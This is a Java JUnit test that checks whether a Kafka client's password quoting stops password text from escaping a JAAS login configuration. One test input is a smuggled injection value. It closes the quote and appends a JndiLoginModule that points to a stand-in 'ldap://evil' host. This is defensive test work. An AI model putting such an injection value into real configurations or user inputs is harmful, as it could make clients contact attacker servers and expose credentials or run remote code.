package io.quanjing.ingest.topic;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.apache.kafka.common.config.SaslConfigs;
import org.apache.kafka.common.config.types.Password;
import org.apache.kafka.common.security.JaasContext;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A password is a password, whatever stands in it. */
class TopicClientsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "plain",
                "with \"quotes\" and \\ backslashes\\",
                "x\"; com.sun.security.auth.module.JndiLoginModule required user.provider.url=\"ldap://evil",
                "密码; // comment /* more */ '"
            })
    void noTextOfAPasswordEndsIt(String password) {
        String config = "org.apache.kafka.common.security.plain.PlainLoginModule required username=\"u\" password="
                + TopicClients.quoted(password) + ";";

        var entries = JaasContext.loadClientContext(Map.of(SaslConfigs.SASL_JAAS_CONFIG, new Password(config)))
                .configurationEntries();

        assertThat(entries).hasSize(1);
        assertThat(entries.getFirst().getOptions().get("password")).isEqualTo(password);
    }
}
